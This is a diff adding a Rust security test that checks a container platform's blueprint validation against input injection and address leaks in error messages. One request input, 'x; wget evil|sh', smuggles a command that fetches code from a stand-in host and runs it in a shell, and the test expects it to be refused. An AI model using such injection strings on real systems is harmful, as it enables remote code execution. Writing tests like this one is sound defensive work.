@@ -19,6 +19,7 @@ on_both_databases!(
     disabling_and_new_passwords_end_every_way_in,
     live_views_are_capped_per_user,
     containers_run_confined_and_bound,
+    inputs_cannot_inject,
 );
 
 /// Finding 1: 40 wrong passwords at once for one user from one address. At most
@@ -514,4 +515,75 @@ async fn containers_run_confined_and_bound(db: Db) {
     assert_eq!(r["explain"]["quota"]["requested"]["memory_mb"], 512, "the default memory is counted: {r}");
     let res = fred.submit_request(&body).await;
     assert_eq!(res.status(), StatusCode::CONFLICT, "over the default quota");
+}
+
+/// Finding 8: a requester's free text cannot choose an image, a user or a host path, or run in
+/// a shell; patterns match whole values; an engine's error reaches a requester without the
+/// platform's addresses.
+async fn inputs_cannot_inject(db: Db) {
+    let app = crate::helpers::spawn_app(db).await;
+    let w = crate::requests::world(&app).await;
+    let refused = [
+        ("image: \"${inputs.free}\"\n", "image may use"),
+        ("image: {{image}}\n    user: \"${inputs.free}\"\n", "user may use"),
+        ("image: {{image}}\n    command: [\"sh\", \"-c\", \"echo ${inputs.free}\"]\n", "in a shell script"),
+        ("image: {{image}}\n    entrypoint: [\"/bin/bash\"]\n    command: [\"-c\", \"run ${inputs.free}\"]\n", "in a shell script"),
+    ];
+    for (i, (component, said)) in refused.iter().enumerate() {
+        let source = format!(
+            "id: inject-{i}\nname: Inject\nversion: 1\ninputs:\n  free: {{ type: string }}\ncomponents:\n  app:\n    {}",
+            component.replace("{{image}}", &crate::helpers::test_image())
+        );
+        let res = w.admin.publish_blueprint(&source).await;
+        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{source}");
+        let body: Value = res.json().await.unwrap();
+        assert!(body.to_string().contains(said), "{said}: {body}");
+        assert!(body["error"]["details"][0]["line"].as_u64().is_some(), "the error says where: {body}");
+    }
+    // An enum, or a pattern in a shell script, is fine.
+    let ok = format!(
+        "id: inject-ok\nname: Fine\nversion: 1\ninputs:\n  tag: {{ type: string, enum: [a, b] }}\n  word: {{ type: string, pattern: \"[a-z]+\" }}\ncomponents:\n  app:\n    image: {}\n    command: [\"sh\", \"-c\", \"echo ${{inputs.word}} ${{inputs.tag}}; sleep 3600\"]\n    env: {{ WORD: \"${{inputs.word}}\" }}\n",
+        crate::helpers::test_image()
+    );
+    let res = w.admin.publish_blueprint(&ok).await;
+    assert_eq!(res.status(), StatusCode::CREATED, "{}", res.text().await.unwrap_or_default());
+    let res = w
+        .admin
+        .create_catalog_item(&json!({"id": "inject-ok", "name": "Fine", "category": "Web", "blueprint": "inject-ok",
+        "lease": {"default_days": 1, "max_days": 1}}))
+        .await;
+    assert_eq!(res.status(), StatusCode::CREATED);
+    // The pattern matches the whole value: a shell command after a word is refused.
+    let res = w
+        .dev
+        .submit_request(&json!({"catalog_item": "inject-ok", "group": "team-a", "inputs": {"tag": "a", "word": "x; wget evil|sh"}}))
+        .await;
+    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let body: Value = res.json().await.unwrap();
+    assert!(body.to_string().contains("inputs.word"), "{body}");
+
+    // An engine error (a pull from an address on the platform's network) reaches the
+    // requester without the address; the admin sees it whole.
+    let bp = crate::fixtures::blueprint(crate::fixture!("blueprints/broken-image.yaml"), &[]);
+    assert_eq!(w.admin.publish_blueprint(&bp).await.status(), StatusCode::CREATED);
+    let res = w
+        .admin
+        .create_catalog_item(&json!({"id": "broken-image", "name": "Broken", "category": "Web", "blueprint": "broken-image",
+        "lease": {"default_days": 1, "max_days": 1}}))
+        .await;
+    assert_eq!(res.status(), StatusCode::CREATED);
+    let res = w.dev.submit_request(&json!({"catalog_item": "broken-image", "group": "team-a", "inputs": {}})).await;
+    assert_eq!(res.status(), StatusCode::CREATED);
+    let id = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
+    let r = eventually(90, "the request to fail", || async {
+        let r = w.dev.get_request_ok(&id).await;
+        (r["status"] == "failed").then_some(r)
+    })
+    .await;
+    let deployment = r["deployment_id"].as_str().unwrap().to_string();
+    let seen = w.dev.get_deployment_ok(&deployment).await;
+    assert!(!seen.to_string().contains("127.0.0.1:9") && !r.to_string().contains("127.0.0.1:9"), "{seen} {r}");
+    assert!(seen["error"].as_str().unwrap().contains("[address]"), "{seen}");
+    let whole = w.admin.get_deployment_ok(&deployment).await;
+    assert!(whole["error"].as_str().unwrap().contains("127.0.0.1:9"), "{whole}");
 }
